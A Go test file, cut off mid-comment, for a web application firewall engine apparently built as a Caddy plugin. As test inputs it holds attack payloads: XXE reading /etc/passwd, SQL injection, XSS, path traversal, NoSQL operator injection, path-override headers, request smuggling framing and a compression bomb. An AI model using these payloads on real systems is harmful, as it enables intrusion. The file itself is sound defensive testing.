package filter

import (
	"bytes"
	"errors"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/gatehouse-dev/caddy-gatehouse/internal/contentcoding/codingtest"
)

// markerRule finds "EVIL" anywhere, so that the tests of the request layer
// do not depend on what the detectors of the value layer find.
// (Case-insensitive because net/http canonicalises header names.)
var markerRule = CustomRule{ID: "marker", Pattern: `(?i)evil`}

func mustEngine(t testing.TB, cfg Config) *Engine {
	t.Helper()
	e, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return e
}

// locations lists the request layer's own matches as rule@location; the
// value layer's detectors are tested on their own.
func locations(d Decision) []string {
	var out []string
	for _, m := range d.Matches {
		if strings.HasPrefix(m.Rule, "custom-") || strings.HasPrefix(m.Rule, "protocol-") || strings.HasPrefix(m.Rule, "ip-") {
			out = append(out, m.Rule+"@"+m.Location)
		}
	}
	slices.Sort(out)
	return out
}

func newReq(method, target, ctype, body string, hdr ...string) *http.Request {
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	r := httptest.NewRequest(method, target, rd)
	if ctype != "" {
		r.Header.Set("Content-Type", ctype)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		r.Header.Add(hdr[i], hdr[i+1])
	}
	return r
}

func multipartBody(t testing.TB) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	_ = mw.WriteField("title", "hello EVIL")
	fw, _ := mw.CreateFormFile("upload", "../EVIL.php")
	_, _ = fw.Write([]byte("binary EVIL content is not inspected"))
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

// TestEngineLocations checks that every part of a request is extracted,
// with the right location, by marking one part at a time.
func TestEngineLocations(t *testing.T) {
	e := mustEngine(t, Config{CustomRules: []CustomRule{markerRule}})
	mpBody, mpType := multipartBody(t)
	tests := []struct {
		name string
		req  *http.Request
		want []string
	}{
		{"clean", newReq("GET", "/a/b?x=1&y=2", "", "", "User-Agent", "curl/8", "Cookie", "a=1; b=2"), nil},
		{"path", newReq("GET", "/a/EVIL/b", "", ""), []string{"custom-marker@path", "custom-marker@uri"}},
		{"path encoded", newReq("GET", "/a/%45VIL", "", ""), []string{"custom-marker@path"}},
		{"query value", newReq("GET", "/?id=EVIL", "", ""), []string{"custom-marker@query:id", "custom-marker@uri"}},
		{"query value plus-decoded", newReq("GET", "/?id=%45V+IL&q=E%56IL", "", ""), []string{"custom-marker@query:q"}},
		{"query name", newReq("GET", "/?EVIL=1", "", ""), []string{"custom-marker@query_name:EVIL", "custom-marker@uri"}},
		{"header value", newReq("GET", "/", "", "", "Referer", "http://x/EVIL"), []string{"custom-marker@header:referer"}},
		{"header name", newReq("GET", "/", "", "", "X-EVIL", "1"), []string{"custom-marker@header_name:x-evil"}},
		{"user agent", newReq("GET", "/", "", "", "User-Agent", "EVIL/1.0"), []string{"custom-marker@header:user-agent"}},
		{"cookie value", newReq("GET", "/", "", "", "Cookie", "a=1; sess=EVIL"), []string{"custom-marker@cookie:sess"}},
		{"cookie name", newReq("GET", "/", "", "", "Cookie", "EVIL=1"), []string{"custom-marker@cookie_name:EVIL"}},
		{"form", newReq("POST", "/", "application/x-www-form-urlencoded", "a=1&comment=EVIL"), []string{"custom-marker@body:comment"}},
		{"json nested", newReq("POST", "/", "application/json", `{"a":{"b":[1,{"c":"xEVIL"}]},"d":true}`), []string{"custom-marker@body:a.b.c"}},
		{"json key", newReq("POST", "/", "application/json", `{"a":{"EVIL":1}}`), []string{"custom-marker@body_name:a.EVIL"}},
		{"json escaped", newReq("POST", "/", "application/json; charset=utf-8", `{"q":"\u0045VIL"}`), []string{"custom-marker@body:q"}},
		{"json malformed falls back to raw", newReq("POST", "/", "application/json", `{"q":EVIL}`), []string{"custom-marker@body_raw", "protocol-malformed-body@body"}},
		{"vendor json", newReq("POST", "/", "application/vnd.api+json", `["EVIL"]`), []string{"custom-marker@body"}},
		{"multipart", newReq("POST", "/", mpType, mpBody), []string{"custom-marker@body:title", "custom-marker@file_name:upload"}},
		{"xml text", newReq("POST", "/", "application/xml", `<a><b id="EVIL">x</b><c>EVIL</c></a>`), []string{"custom-marker@body:b@id", "custom-marker@body:c"}},
		{"xml doctype", newReq("POST", "/", "text/xml", `<!DOCTYPE a [<!ENTITY EVIL SYSTEM "file:///etc/passwd">]><a>1</a>`), []string{"custom-marker@body_raw"}},
		{"text", newReq("PUT", "/", "text/plain", `some EVIL text`), []string{"custom-marker@body_raw"}},
		{"no content type", newReq("PUT", "/", "", `some EVIL text`), []string{"custom-marker@body_raw"}},
		{"binary skipped", newReq("PUT", "/", "image/png", `EVIL`), nil},
		{"grpc strings", newReq("POST", "/svc/Method", "application/grpc", "\x00\x00\x00\x00\x0e\x0a\x0cname is EVIL\x12\x02ok"), []string{"custom-marker@body"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var before []byte
			if tc.req.Body != nil {
				before, _ = io.ReadAll(tc.req.Body)
				tc.req.Body = io.NopCloser(bytes.NewReader(before))
			}
			d, err := e.InspectRequest(tc.req, RequestInfo{All: true})
			if err != nil {
				t.Fatalf("Inspect: %v", err)
			}
			if got := locations(d); !slices.Equal(got, tc.want) {
				t.Errorf("matches = %v, want %v", got, tc.want)
			}
			if tc.req.Body != nil {
				after, _ := io.ReadAll(tc.req.Body)
				if !bytes.Equal(before, after) {
					t.Errorf("body not restored: %q, want %q", after, before)
				}
			}
		})
	}
}

func compress(t testing.TB, enc string, data []byte) []byte {
	t.Helper()
	return codingtest.Encode(t, enc, data)
}

// TestEngineContentEncoding: compressed bodies are inspected decoded; a
// body that only claims an encoding is inspected as it is, and noted.
func TestEngineContentEncoding(t *testing.T) {
	e := mustEngine(t, Config{InspectBodyLimit: 1 << 10, CustomRules: []CustomRule{markerRule}})
	form := []byte("a=1&cmd=EVIL")
	for _, enc := range []string{"gzip", "deflate", "br", "zstd"} {
		t.Run(enc, func(t *testing.T) {
			body := compress(t, enc, form)
			r := newReq("POST", "/", "application/x-www-form-urlencoded", string(body), "Content-Encoding", enc)
			d, err := e.InspectRequest(r, RequestInfo{All: true})
			if err != nil {
				t.Fatal(err)
			}
			if got := locations(d); !slices.Equal(got, []string{"custom-marker@body:cmd"}) {
				t.Errorf("matches %v", got)
			}
			if got, _ := io.ReadAll(r.Body); !bytes.Equal(got, body) {
				t.Error("compressed body not restored as sent")
			}
			// The same encoding label on a plain body.
			r = newReq("POST", "/", "application/x-www-form-urlencoded", string(form), "Content-Encoding", enc)
			d, _ = e.InspectRequest(r, RequestInfo{All: true})
			// Inspected parsed and, since a lenient backend may read it
			// otherwise, whole.
			if got := locations(d); !slices.Equal(got, []string{"custom-marker@body:cmd", "custom-marker@body_raw", "protocol-content-encoding@header:content-encoding"}) {
				t.Errorf("mislabelled body: matches %v", got)
			}
		})
	}
	// A compression bomb decodes no further than the inspection limit: by
	// default the prefix is inspected and the rest noted, in block mode
	// the request is refused with 413.
	bomb := compress(t, "gzip", bytes.Repeat([]byte("a"), 50<<20))
	r := newReq("POST", "/", "application/x-www-form-urlencoded", string(bomb), "Content-Encoding", "gzip")
	d, err := e.Inspect(r)
	if err != nil {
		t.Fatal(err)
	}
	if d.Blocked || len(d.Matches) != 1 || d.Matches[0].Rule != "protocol-body-over-limit" || d.Matches[0].Score != 0 {
		t.Errorf("bomb, default: %+v", d)
	}
	eb := mustEngine(t, Config{InspectBodyLimit: 1 << 10, BodyOverLimit: OverLimitBlock})
	r = newReq("POST", "/", "application/x-www-form-urlencoded", string(bomb), "Content-Encoding", "gzip")
	if d, err = eb.Inspect(r); err != nil {
		t.Fatal(err)
	}
	if !d.Blocked || d.Matches[0].Rule != "protocol-body-over-limit" || d.Status != 413 {
		t.Errorf("bomb, block mode: %+v", d)
	}
}

func TestEngineProtocol(t *testing.T) {
	e := mustEngine(t, Config{MaxURILength: 64, MaxHeaders: 5, MaxHeaderSize: 100, MaxArgs: 3, MaxBodySize: 1000})
	many := newReq("GET", "/", "", "")
	for i := range 6 {
		many.Header.Add("X-H", strings.Repeat("a", i))
	}
	clte := newReq("POST", "/", "text/plain", "x")
	clte.Header.Set("Content-Length", "1")
	clte.TransferEncoding = []string{"chunked"}
	twoCL := newReq("POST", "/", "text/plain", "x", "Content-Length", "1", "Content-Length", "2")
	big := newReq("POST", "/", "text/plain", strings.Repeat("a", 1001))
	tests := []struct {
		name   string
		req    *http.Request
		rule   string
		status int
	}{
		{"method", newReq("TRACE", "/", "", ""), "protocol-method", 403},
		{"uri length", newReq("GET", "/?q="+strings.Repeat("a", 64), "", ""), "protocol-uri-length", 403},
		{"header count", many, "protocol-header-count", 403},
		{"header size", newReq("GET", "/", "", "", "X-Big", strings.Repeat("b", 100)), "protocol-header-size", 403},
		{"args", newReq("GET", "/?a=1&b=2&c=3&d=4", "", ""), "protocol-args", 403},
		{"form args", newReq("POST", "/?a=1&b=2", "application/x-www-form-urlencoded", "c=3&d=4"), "protocol-args", 403},
		{"cl te", clte, "protocol-framing", 403},
		{"two content lengths", twoCL, "protocol-framing", 403},
		{"body size", big, "protocol-body-size", 413},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d, err := e.Inspect(tc.req)
			if err != nil {
				t.Fatal(err)
			}
			if !d.Blocked || d.Status != tc.status || len(d.Matches) == 0 || d.Matches[0].Rule != tc.rule {
				t.Errorf("decision = %+v, want blocked %d by %s", d, tc.status, tc.rule)
			}
		})
	}
	ok := newReq("GET", "/?a=1&b=2&c=3", "", "")
	if d, _ := e.Inspect(ok); d.Blocked || d.Action != ActionPass {
		t.Errorf("ordinary request: %+v", d)
	}
}

func TestEngineBadEncodingScoresLow(t *testing.T) {
	e := mustEngine(t, Config{})
	d, err := e.Inspect(newReq("GET", "/?discount=50%", "", ""))
	if err != nil {
		t.Fatal(err)
	}
	if d.Blocked || d.Score != ScoreNotice || len(d.Matches) != 1 || d.Matches[0].Rule != "protocol-bad-encoding" {
		t.Errorf("got %+v", d)
	}
}

func TestEngineBodyLimit(t *testing.T) {
	body := `{"a":"` + strings.Repeat("x", 200) + `","b":"EVIL"}`
	tests := []struct {
		name      string
		cfg       Config
		ctype     string
		body      string
		wantBlock bool
		wantRule  string
	}{
		{"json over limit blocks", Config{InspectBodyLimit: 100, BodyOverLimit: OverLimitBlock}, "application/json", body, true, "protocol-body-over-limit"},
		{"json over limit by default: prefix, noted", Config{InspectBodyLimit: 100}, "application/json", body, false, "protocol-body-over-limit"},
		{"json prefix mode misses the tail", Config{InspectBodyLimit: 100, BodyOverLimit: OverLimitInspectPrefix}, "application/json", body, false, ""},
		{"json prefix mode sees the head", Config{InspectBodyLimit: 100, BodyOverLimit: OverLimitInspectPrefix}, "application/json", `{"b":"EVIL","a":"` + strings.Repeat("x", 200) + `"}`, true, "custom-marker"},
		{"text over limit: prefix", Config{InspectBodyLimit: 100}, "text/plain", "EVIL" + strings.Repeat("x", 200), true, "custom-marker"},
		{"limit exactly", Config{InspectBodyLimit: int64(len(body))}, "application/json", body, true, "custom-marker"},
		{"inspection off", Config{InspectBodyLimit: -1}, "application/json", body, false, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.cfg.CustomRules = []CustomRule{markerRule}
			e := mustEngine(t, tc.cfg)
			r := newReq("POST", "/", tc.ctype, tc.body)
			d, err := e.Inspect(r)
			if err != nil {
				t.Fatal(err)
			}
			found := tc.wantRule == ""
			for _, m := range d.Matches {
				found = found || m.Rule == tc.wantRule
			}
			if d.Blocked != tc.wantBlock || !found {
				t.Errorf("decision %+v, want blocked=%v by %s", d, tc.wantBlock, tc.wantRule)
			}
			got, _ := io.ReadAll(r.Body)
			if string(got) != tc.body {
				t.Errorf("body not restored (%d bytes, want %d)", len(got), len(tc.body))
			}
		})
	}
}

func TestEngineMaxBodySizeUnknownLengthInPrefix(t *testing.T) {
	e := mustEngine(t, Config{MaxBodySize: 10})
	r := newReq("POST", "/", "text/plain", strings.Repeat("a", 20))
	r.ContentLength = -1
	d, err := e.Inspect(r)
	if err != nil {
		t.Fatal(err)
	}
	if !d.Blocked || d.Status != 413 || d.Matches[0].Rule != "protocol-body-size" {
		t.Errorf("got %+v", d)
	}
}

func TestEngineMaxBodySizeUnknownLength(t *testing.T) {
	e := mustEngine(t, Config{MaxBodySize: 10, InspectBodyLimit: 4})
	r := newReq("POST", "/", "text/plain", strings.Repeat("a", 20))
	r.ContentLength = -1
	if _, err := e.Inspect(r); err != nil {
		t.Fatal(err)
	}
	_, err := io.ReadAll(r.Body)
	var mbe *http.MaxBytesError
	if !errors.As(err, &mbe) || mbe.Limit != 10 {
		t.Errorf("read past max_body_size: err %v, want *http.MaxBytesError", err)
	}
}

func TestEngineDecision(t *testing.T) {
	weak := CustomRule{ID: "weak", Pattern: `weak`, Score: 2}
	faint := CustomRule{ID: "faint", Pattern: `faint`, Score: 3}
	blocker := CustomRule{ID: "blocker", Pattern: `stop`, Score: 1, Block: true}
	tests := []struct {
		name   string
		cfg    Config
		target string
		action Action
		score  int
		status int
	}{
		{"below threshold", Config{}, "/?a=weak", ActionPass, 2, 0},
		{"same rule on several values counts once", Config{}, "/?a=weak&b=weak&c=weak&d=weak", ActionPass, 2, 0},
		{"different weak rules add up", Config{}, "/?a=weak&b=faint", ActionBlock, 5, 403},
		{"different weak rules, repeated", Config{}, "/?a=weak&b=faint&c=weak&d=faint", ActionBlock, 5, 403},
		{"higher threshold", Config{Threshold: 7}, "/?a=weak&b=faint", ActionPass, 5, 0},
		{"direct block", Config{}, "/?a=stop", ActionBlock, 1, 403},
		{"custom status", Config{BlockStatus: 406}, "/?a=stop", ActionBlock, 1, 406},
		{"detect only", Config{DetectOnly: true}, "/?a=stop", ActionDetect, 1, 403},
		{"disabled rule", Config{DisabledRules: []string{"custom-block*"}}, "/?a=stop", ActionPass, 0, 0},
		{"excluded by target", Config{Exclusions: []Exclusion{{Targets: []string{"query:a"}}}}, "/?a=stop", ActionPass, 0, 0},
		{"exclusion elsewhere", Config{Exclusions: []Exclusion{{Targets: []string{"query:b"}}}}, "/?a=stop", ActionBlock, 1, 403},
		{"excluded by path and rule", Config{Exclusions: []Exclusion{{Rules: []string{"custom"}, Paths: []string{"/cms/*"}}}}, "/cms/x?a=stop", ActionPass, 0, 0},
		{"path exclusion not reachable by dot-dot", Config{Exclusions: []Exclusion{{Paths: []string{"/cms/*"}}}}, "/cms/%2e%2e/admin?a=stop", ActionBlock, 6, 403}, // the custom rule and traversal-dotdot (a dot segment in a path)
		{"protocol rule excluded by path", Config{MaxURILength: 20, Exclusions: []Exclusion{{Rules: []string{"protocol-uri-length"}, Paths: []string{"/export/*"}}}}, "/export/x?a=weak&b=1234567890", ActionPass, 2, 0},
		{"protocol rule elsewhere", Config{MaxURILength: 20, Exclusions: []Exclusion{{Rules: []string{"protocol-uri-length"}, Paths: []string{"/export/*"}}}}, "/other/x?a=weak&b=1234567890", ActionBlock, 7, 403},
		{"exclusion rule mismatch", Config{Exclusions: []Exclusion{{Rules: []string{"sqli-*"}, Paths: []string{"/cms/*"}}}}, "/cms/x?a=stop", ActionBlock, 1, 403},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.cfg.CustomRules = []CustomRule{weak, faint, blocker}
			for i := range tc.cfg.CustomRules {
				tc.cfg.CustomRules[i].Targets = []string{"query"}
			}
			e := mustEngine(t, tc.cfg)
			d, err := e.InspectRequest(newReq("GET", tc.target, "", ""), RequestInfo{All: true})
			if err != nil {
				t.Fatal(err)
			}
			if d.Action != tc.action || d.Score != tc.score || d.Status != tc.status || d.Blocked != (tc.action == ActionBlock) {
				t.Errorf("got %s score %d status %d, want %s %d %d (%+v)", d.Action, d.Score, d.Status, tc.action, tc.score, tc.status, d)
			}
		})
	}
}

// TestWalkerCountOncePerRule: a rule adds its highest score once per
// request, whatever the order of its matches.
func TestWalkerCountOncePerRule(t *testing.T) {
	type hit struct {
		rule  string
		score int
	}
	tests := []struct {
		name string
		hits []hit
		want int
	}{
		{"one", []hit{{"a", 3}}, 3},
		{"repeat", []hit{{"a", 3}, {"a", 3}, {"a", 3}}, 3},
		{"higher later", []hit{{"a", 2}, {"a", 5}}, 5},
		{"lower later", []hit{{"a", 5}, {"a", 2}}, 5},
		{"two rules", []hit{{"a", 3}, {"b", 2}, {"a", 3}, {"b", 4}}, 7},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w := &walker{}
			total := 0
			for _, h := range tc.hits {
				total += w.count(h.rule, h.score)
			}
			if total != tc.want {
				t.Errorf("score %d, want %d", total, tc.want)
			}
		})
	}
}

// TestEngineRepeatedWeakSignal: a CMS page with several embedded videos
// repeats one weak signal (xss-dangerous-tag) and passes; a different weak
// signal next to it still adds up to a block.
func TestEngineRepeatedWeakSignal(t *testing.T) {
	const iframe = `<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" allowfullscreen></iframe>`
	tests := []struct {
		name  string
		body  string
		block bool
		tags  int // xss-dangerous-tag matches expected (the test is not vacuous)
	}{
		{"one video", `{"title":"Launch","body":"<p>Watch:</p>` + iframe + `"}`, false, 1},
		{"two videos, one field", `{"title":"Launch","body":"<p>Part 1</p>` + iframe + `<p>Part 2</p>` + iframe + `"}`, false, 1},
		{"three videos, three fields", `{"intro":"` + iframe + `","body":"` + iframe + `","footer":"` + iframe + `"}`, false, 3},
		{"video plus another weak signal", `{"body":"` + iframe + `","note":"see /etc/hosts"}`, true, 1},
	}
	e := mustEngine(t, Config{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d, err := e.InspectRequest(newReq("POST", "/cms/pages", "application/json", tc.body), RequestInfo{All: true})
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != tc.block {
				t.Errorf("blocked=%v, want %v: %+v", d.Blocked, tc.block, d)
			}
			tags := 0
			for _, m := range d.Matches {
				if m.Rule == "xss-dangerous-tag" {
					tags++
				}
			}
			if tags != tc.tags {
				t.Errorf("%d xss-dangerous-tag matches, want %d: %+v", tags, tc.tags, d.Matches)
			}
		})
	}
}

func TestEngineOriginalURI(t *testing.T) {
	e := mustEngine(t, Config{CustomRules: []CustomRule{markerRule}})
	r := newReq("GET", "/rewritten", "", "")
	d, _ := e.InspectRequest(r, RequestInfo{URI: "/orig?q=EVIL", All: true})
	if got := locations(d); !slices.Equal(got, []string{"custom-marker@query:q", "custom-marker@uri"}) {
		t.Errorf("original URI not inspected: %+v", d)
	}
}

func TestEngineIPLists(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "deny.txt")
	if err := os.WriteFile(file, []byte("# bad\n198.51.100.0/24\n\n2001:db8::1 # one\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	e := mustEngine(t, Config{
		DenyIPs: []string{"203.0.113.7"}, DenyIPsFile: file,
		AllowIPs:    []string{"10.0.0.0/8", "203.0.113.0/24"},
		CustomRules: []CustomRule{markerRule},
	})
	tests := []struct {
		ip     string
		action Action
	}{
		{"203.0.113.7", ActionBlock},  // deny wins over allow
		{"198.51.100.9", ActionBlock}, // from the file
		{"2001:db8::1", ActionBlock},
		{"::ffff:198.51.100.9", ActionBlock}, // IPv4-mapped
		{"10.1.2.3", ActionBypass},           // EVIL not even looked at
		{"192.0.2.1", ActionBlock},           // EVIL found
		{"192.0.2.2", ActionBlock},
	}
	for _, tc := range tests {
		d, err := e.InspectRequest(newReq("GET", "/?q=EVIL", "", ""), RequestInfo{ClientIP: netip.MustParseAddr(tc.ip)})
		if err != nil {
			t.Fatal(err)
		}
		if d.Action != tc.action {
			t.Errorf("%s: action %s, want %s (%+v)", tc.ip, d.Action, tc.action, d)
		}
	}
	r := newReq("GET", "/", "", "")
	r.RemoteAddr = "198.51.100.3:5555"
	if d, _ := e.Inspect(r); d.Action != ActionBlock || d.Matches[0].Rule != "ip-deny" {
		t.Errorf("RemoteAddr fallback: %+v", d)
	}
	if _, err := New(Config{DenyIPs: []string{"300.1.1.1"}}); err == nil {
		t.Error("invalid address accepted")
	}
	if _, err := New(Config{DenyIPsFile: filepath.Join(dir, "missing")}); err == nil {
		t.Error("missing file accepted")
	}
}

func TestConfigValidate(t *testing.T) {
	bad := []Config{
		{Paranoia: 5},
		{MaxJSONDepth: 10001},
		{MaxJSONDepth: -1},
		{BlockStatus: 200},
		{BodyOverLimit: "drop"},
		{AllowedMethods: []string{"get"}},
		{Exclusions: []Exclusion{{}}},
		{CustomRules: []CustomRule{{ID: "a"}}},
		{CustomRules: []CustomRule{{Pattern: "x"}}},
		{CustomRules: []CustomRule{{ID: "a", Pattern: "x"}, {ID: "a", Pattern: "y"}}},
		{CustomRules: []CustomRule{{ID: "a", Pattern: "x", Targets: []string{"nowhere"}}}},
		{CustomRules: []CustomRule{{ID: "a", Pattern: "(?=lookahead)"}}},
	}
	for i, c := range bad {
		if _, err := New(c); err == nil {
			t.Errorf("%d: %+v accepted", i, c)
		}
	}
	if _, err := New(Config{}); err != nil {
		t.Errorf("zero config: %v", err)
	}
}

func TestFragment(t *testing.T) {
	tests := map[string]string{
		"abc":                   "abc",
		"a\x00b\n\"é\xff":       `a\x00b\n\"\u00e9\xff`,
		strings.Repeat("x", 60): strings.Repeat("x", fragmentLen) + "...",
	}
	for in, want := range tests {
		if got := fragment(in); got != want {
			t.Errorf("fragment(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSplitURIAndCleanPath(t *testing.T) {
	tests := []struct{ uri, path, query string }{
		{"/a?b=1", "/a", "b=1"},
		{"/a", "/a", ""},
		{"http://h:80/x/y?z#f", "/x/y", "z"},
		{"http://h", "", ""},
		{"*", "*", ""},
		{"/p?u=http://x/", "/p", "u=http://x/"},
	}
	for _, tc := range tests {
		p, q := splitURI(tc.uri)
		if p != tc.path || q != tc.query {
			t.Errorf("splitURI(%q) = %q, %q", tc.uri, p, q)
		}
	}
	for in, want := range map[string]string{
		"/cms/../admin": "/admin", "/cms/%2e%2e/admin": "/admin", "/cms%5c..%5cadmin": "/admin",
		"/cms/%252e%252e/admin": "/admin", "/a/b/": "/a/b/", "": "/",
	} {
		if got := cleanPath(in); got != want {
			t.Errorf("cleanPath(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestEngineConcurrent runs one engine from many goroutines (run with
// -race): no per-request state may be shared.
func TestEngineConcurrent(t *testing.T) {
	e := mustEngine(t, Config{CustomRules: []CustomRule{markerRule}})
	done := make(chan error)
	for g := range 8 {
		go func() {
			for i := range 50 {
				evil := (g+i)%2 == 0
				body := `{"a":"fine"}`
				if evil {
					body = `{"a":"EVIL"}`
				}
				d, err := e.Inspect(newReq("POST", "/", "application/json", body))
				if err == nil && d.Blocked != evil {
					err = errors.New("wrong decision under concurrency")
				}
				if err != nil {
					done <- err
					return
				}
			}
			done <- nil
		}()
	}
	for range 8 {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func TestSensitiveNames(t *testing.T) {
	for name, want := range map[string]bool{
		"password": true, "X-Auth-Token": true, "PHPSESSID": true, "connect.sid": true, "X-Api-Key": true,
		"apikey": true, "otp": true, "Authorization": true, "user.credentials.secret": true,
		"q": false, "keyword": false, "side": false, "comment": false, "id": false, "": false,
	} {
		if got := sensitiveName(name); got != want {
			t.Errorf("sensitiveName(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestEngineRedactsSecrets: no fragment or logged URI repeats a credential.
func TestEngineRedactsSecrets(t *testing.T) {
	e := mustEngine(t, Config{MaxURILength: 60, CustomRules: []CustomRule{markerRule}})
	r := newReq("POST", "/login?token=EVILsecret1&q=EVIL", "application/json", `{"user":{"password":"EVILsecret2"},"note":"EVIL"}`,
		"Authorization", "Bearer EVILsecret3", "Cookie", "sid=EVILsecret4; theme=EVIL")
	r.RequestURI = "/login?token=EVILsecret1&q=EVIL&pad=" + strings.Repeat("x", 40)
	d, err := e.InspectRequest(r, RequestInfo{All: true})
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, m := range d.Matches {
		if strings.Contains(m.Fragment, "secret") {
			t.Errorf("%s at %s leaks %q", m.Rule, m.Location, m.Fragment)
		}
		seen[m.Location] = true
	}
	for _, loc := range []string{"query:token", "query:q", "body:user.password", "body:note", "header:authorization", "cookie:sid", "cookie:theme", "uri"} {
		if !seen[loc] {
			t.Errorf("no match at %s: %v", loc, locations(d))
		}
	}
	if got := RedactURI("/a?access_token=abc&q=1&pass"); got != "/a?access_token=REDACTED&q=1&pass" {
		t.Errorf("RedactURI = %q", got)
	}
}

// TestEngineClientHints: browser client hint lists pass; an injection in
// one of their strings, or a value that is not a list, is still inspected.
func TestEngineClientHints(t *testing.T) {
	tests := []struct {
		name, header, value string
		block               bool
	}{
		{"chrome 96 brand list", "Sec-Ch-Ua", `" Not A;Brand";v="99", "Chromium";v="96", "Google Chrome";v="96"`, false},
		{"opera brand list", "Sec-Ch-Ua", `" Not A;Brand";v="99", "Chromium";v="90", "Opera";v="76"`, false},
		{"chrome 120 brand list", "Sec-Ch-Ua", `"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`, false},
		{"full version list", "Sec-Ch-Ua-Full-Version-List", `"Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.130", "Google Chrome";v="120.0.6099.130"`, false},
		{"platform", "Sec-Ch-Ua-Platform", `"Windows"`, false},
		{"injection in a brand", "Sec-Ch-Ua", `"x' union select password from users--";v="1"`, true},
		{"injection in a parameter", "Sec-Ch-Ua", `"Chromium";v="<script>alert(1)</script>"`, true},
		{"not a list", "Sec-Ch-Ua", `"a";v="1"; drop table users--`, true},
		{"other header keeps whole-value inspection", "X-Brand", `"x' or 1=1--";v="1"`, true},
	}
	e := mustEngine(t, Config{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := newReq("GET", "/", "", "")
			r.Header.Set(tc.header, tc.value)
			d, err := e.InspectRequest(r, RequestInfo{All: true})
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != tc.block || !tc.block && d.Score != 0 {
				t.Errorf("blocked=%v score=%d, want blocked=%v: %+v", d.Blocked, d.Score, tc.block, d.Matches)
			}
		})
	}
}

func TestSplitSFStrings(t *testing.T) {
	tests := []struct {
		in   string
		want []string
		ok   bool
	}{
		{`"a"`, []string{"a"}, true},
		{`" Not A;Brand";v="99", "Chromium";v="96"`, []string{" Not A;Brand", "99", "Chromium", "96"}, true},
		{`"a";v=1;x, "b"`, []string{"a", "b"}, true},
		{``, nil, false},
		{`a`, nil, false},
		{`"a`, nil, false},
		{`"a" "b"`, nil, false},
		{`"a\"b"`, nil, false},
		{`"a";`, nil, false},
		{`"a";v=`, nil, false},
		{`"a",`, nil, false},
		{`"a"; drop table x`, nil, false},
	}
	for _, tc := range tests {
		got, ok := splitSFStrings(nil, tc.in)
		if ok != tc.ok || !slices.Equal(got, tc.want) {
			t.Errorf("splitSFStrings(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

// TestEngineOperatorQueryExclusion: APIs that take MongoDB-style operators
// in bracketed query names on purpose (Strapi: filters[price][$lt]=10)
// pass with a weak signal on data fields; on a credential they block, and
// an exclusion scoped to those names lets them through and keeps the rule
// everywhere else.
func TestEngineOperatorQueryExclusion(t *testing.T) {
	excl := Config{Exclusions: []Exclusion{{Rules: []string{"nosql-*"}, Paths: []string{"/api/*"}, Targets: []string{"query:filters[*", "query_name:filters[*"}}}}
	tests := []struct {
		name   string
		cfg    Config
		target string
		block  bool
	}{
		{"a data field passes by default", Config{}, "/api/products?filters[price][$lt]=10", false},
		{"a credential blocks by default", Config{}, "/api/users?filters[password][$ne]=x", true},
		{"excluded", excl, "/api/users?filters[password][$ne]=x&sort=price", false},
		{"other parameter still checked", excl, "/api/login?username[$ne]=x", true},
		{"other path still checked", excl, "/admin?filters[password][$ne]=x", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d, err := mustEngine(t, tc.cfg).InspectRequest(newReq("GET", tc.target, "", ""), RequestInfo{All: true})
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != tc.block {
				t.Errorf("blocked=%v, want %v: %+v", d.Blocked, tc.block, d.Matches)
			}
		})
	}
}

// TestPathOverrideHeader: a header that makes the backend serve another
// path than the request's is an access-control bypass; the same path, as a
// proxy in front sets it, passes.
func TestPathOverrideHeader(t *testing.T) {
	eng := mustEngine(t, Config{})
	tests := []struct {
		target, header, value string
		blocked               bool
	}{
		{"/", "X-Original-URL", "/admin", true},
		{"/public", "X-Rewrite-URL", "/admin/users?x=1", true},
		{"/public", "X-Original-URL", "https://app.example.com/admin", true},
		{"/public", "X-Override-URL", "/public/../admin", true},
		{"/public?x=1", "X-Original-URL", "/public?x=1", false},
		{"/a%20b", "X-Original-URL", "/a b", false},
		{"/x", "X-Original-URI", "/app/x", false},
		{"/a/b", "X-Original-URL", "https://app.example.com/a/b?q=2", false},
		{"/", "X-Original-URL", "/", false},
		{"/", "X-Forwarded-Uri", "/admin", false},
	}
	for _, tc := range tests {
		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+tc.target, "", "", tc.header, tc.value))
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, m := range d.Matches {
			found = found || m.Rule == "protocol-path-override"
		}
		if d.Blocked != tc.blocked || found != tc.blocked {
			t.Errorf("%s with %s: %s: blocked %v (%v), want %v", tc.target, tc.header, tc.value, d.Blocked, d.Matches, tc.blocked)
		}
	}
}

// TestProtocolHygiene: bytes and headers no browser or API client sends,
// which parsers behind the gateway read differently: a NUL in a
// parameter, a control escape in the path, a line break in a parameter's
